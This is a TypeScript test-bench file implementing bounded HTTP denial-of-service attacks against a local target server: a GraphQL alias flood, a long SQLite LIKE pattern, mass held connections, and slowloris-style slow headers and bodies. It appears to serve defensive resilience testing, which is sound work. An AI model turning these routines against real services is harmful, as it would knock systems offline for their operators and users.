/**
 * The HTTP attacks of issue 14, each bounded: a GraphQL alias flood over a large stored value, a
 * LIKE filter with a long pattern on SQLite, many held connections, slow headers and slow bodies.
 * Every one is written against whatever the server does: a refusal is an answer to report (and the
 * good one), never a crash of the bench.
 */
import { connect, type Socket } from 'node:net';
import { apiKey, ROUTES } from './target';
import { ATTACKER, describe, send, sleep, timeLeft, type Attack, type AttackContext } from './attack-kit';

/** A project of the attacker's own (a member may put tasks only in a project it may read). */
async function ownProject(ctx: AttackContext): Promise<string> {
  const body = JSON.stringify({ op: 'create', object: 'project', args: { name: `Mallory ${Date.now()}` } });
  const a = await send(ctx.target.url + ROUTES.rpc, 'POST', body, apiKey('mallory'), 10_000);
  const id = /"id"\s*:\s*"([^"]+)"/.exec(a.head)?.[1];
  if (a.status >= 300 || !id) throw new Error(`could not create the attacker's project: ${a.status} ${a.head}`);
  return id;
}

/**
 * Stores a task of the attacker (mallory) whose title is `chars` long, or the longest the server
 * takes: a refusal naming a maximum (details.max) is retried at that maximum, another 400 at half
 * the length, five times at most. Answers what was stored, and its length.
 */
async function storeTitle(ctx: AttackContext, chars: number, fill: string): Promise<{ stored: string; length: number }> {
  const project = await ownProject(ctx);
  const refusals: string[] = [];
  for (let length = chars, tries = 0; tries < 5 && length >= 1; tries++) {
    const body = JSON.stringify({ op: 'create', object: 'task', args: { title: fill.repeat(length), project, assignee: 'mallory' } });
    const a = await send(ctx.target.url + ROUTES.rpc, 'POST', body, apiKey('mallory'), 30_000);
    if (a.status < 300) return { stored: `${kb(length)} stored${refusals.length ? ` (after ${refusals.join(', ')})` : ''}`, length };
    refusals.push(`${kb(length)} refused ${describe(a)}`);
    if (a.status !== 400) break;
    const max = Number(/"max"\s*:\s*(\d+)/.exec(a.head)?.[1]);
    length = max > 0 && max < length ? max : Math.floor(length / 2);
  }
  return { stored: refusals.join(', '), length: 0 };
}

const kb = (n: number) => `${Math.round(n / 1000)} KB`;

export const aliasFlood = (aliases: number, valueBytes: number): Attack => ({
  name: 'GraphQL alias flood',
  size: `${aliases.toLocaleString('en')} aliases of taskList(top: 1000) over a ${kb(valueBytes)} title`,
  seconds: 40,
  async run(ctx) {
    const { stored } = await storeTitle(ctx, valueBytes, 'x');
    const fields = Array.from({ length: aliases }, (_, i) => `a${i}: taskList(top: 1000) { title }`).join(' ');
    const query = JSON.stringify({ query: `{ ${fields} }` });
    let outcome: string;
    try {
      const a = await send(ctx.target.url + ROUTES.graphql, 'POST', query, apiKey('mallory'), Math.max(1000, timeLeft(ctx)));
      outcome =
        /"errors"\s*:/.test(a.head) || a.status >= 400
          ? `refused ${describe(a)}`
          : `answered ${a.status}, ${(a.bytes / 1e6).toFixed(1)} MB`;
      outcome += ` in ${(a.ms / 1000).toFixed(1)} s`;
    } catch (err) {
      outcome = `no answer (${(err as Error).message})`;
    }
    return `value: ${stored}; query ${outcome}`;
  },
});

export const likePattern = (patternChars: number, valueChars: number): Attack => ({
  name: 'LIKE with a long pattern (SQLite)',
  size: `${kb(patternChars)} pattern over a ${kb(valueChars)} value, up to 3 requests`,
  seconds: 30,
  async run(ctx) {
    const { stored } = await storeTitle(ctx, valueChars, 'a');
    const pattern = `%${'a'.repeat(patternChars - 3)}b%`;
    const body = JSON.stringify({ op: 'find', object: 'task', args: { filters: [['title', 'like', pattern]], fields: ['id'] } });
    const answers: string[] = [];
    for (let i = 0; i < 3 && timeLeft(ctx) > 1000; i++) {
      try {
        const a = await send(ctx.target.url + ROUTES.rpc, 'POST', body, apiKey('mallory'), timeLeft(ctx));
        answers.push(`${describe(a)} in ${(a.ms / 1000).toFixed(2)} s`);
      } catch (err) {
        answers.push((err as Error).message);
        break;
      }
    }
    return `value: ${stored}; queries: ${answers.join(', ')}`;
  },
});

/** Opens a TCP connection from the attacker's address; resolves with the socket, or undefined when it was refused or timed out. */
function open(port: number, timeoutMs: number, onClose: () => void): Promise<Socket | undefined> {
  return new Promise((resolve) => {
    const socket = connect({ host: '127.0.0.1', port, localAddress: ATTACKER });
    const timer = setTimeout(() => {
      socket.destroy();
      resolve(undefined);
    }, timeoutMs);
    socket.once('connect', () => {
      clearTimeout(timer);
      socket.once('close', onClose);
      resolve(socket);
    });
    socket.on('error', () => {
      clearTimeout(timer);
      resolve(undefined);
    });
    socket.on('data', () => undefined);
  });
}

/** Connections opened `batch` at a time until `count` or the deadline; counts those the server closed. */
async function openMany(ctx: AttackContext, count: number, batch = 200) {
  const port = Number(new URL(ctx.target.url).port);
  const sockets: Socket[] = [];
  let failed = 0;
  let closedByServer = 0;
  let ours = false;
  for (let i = 0; i < count && timeLeft(ctx) > 2000; i += batch) {
    const opened = await Promise.all(
      Array.from({ length: Math.min(batch, count - i) }, () => open(port, 3000, () => void (ours || closedByServer++))),
    );
    for (const s of opened) {
      if (s) sockets.push(s);
      else failed++;
    }
  }
  return {
    sockets,
    failed,
    closedByServer: () => closedByServer,
    closeAll: () => {
      ours = true;
      for (const s of sockets) s.destroy();
    },
  };
}

export const heldConnections = (count: number, holdMs: number, maxFiles: number): Attack => ({
  name: 'Held connections',
  size: `${count.toLocaleString('en')} idle connections from ${ATTACKER}, held ${holdMs / 1000} s (server limited to ${maxFiles} files)`,
  seconds: 30,
  async run(ctx) {
    const held = await openMany(ctx, count);
    try {
      await sleep(Math.min(holdMs, timeLeft(ctx)));
      const open = held.sockets.length - held.closedByServer();
      return `${held.sockets.length} accepted, ${held.failed} refused or timed out; ${open} still open after ${holdMs / 1000} s`;
    } finally {
      held.closeAll();
    }
  },
});

export const slowClients = (count: number, holdMs: number): Attack => ({
  name: 'Slow headers and slow bodies',
  size: `${count.toLocaleString('en')} connections from ${ATTACKER} (half slow headers, half slow bodies), 1 byte/s for ${holdMs / 1000} s`,
  seconds: 35,
  async run(ctx) {
    const held = await openMany(ctx, count);
    const host = new URL(ctx.target.url).host;
    const headers = `GET /health HTTP/1.1\r\nHost: ${host}\r\nX-Slow: ${'a'.repeat(holdMs / 1000 + 10)}`;
    const bodyStart = `POST ${ROUTES.rpc} HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nContent-Length: 100000\r\nX-API-Key: ${apiKey('mallory')['x-api-key']}\r\n\r\n{`;
    held.sockets.forEach((s, i) => {
      if (i % 2) s.write(bodyStart);
    });
    try {
      const started = Date.now();
      for (let second = 0; Date.now() - started < holdMs && timeLeft(ctx) > 1000; second++) {
        for (const [i, s] of held.sockets.entries()) {
          if (s.destroyed) continue;
          s.write(i % 2 ? ' ' : headers[Math.min(second, headers.length - 1)]);
        }
        await sleep(1000);
      }
      const open = held.sockets.length - held.closedByServer();
      return `${held.sockets.length} accepted, ${held.failed} refused; ${open} still open after ${holdMs / 1000} s`;
    } finally {
      held.closeAll();
    }
  },
});
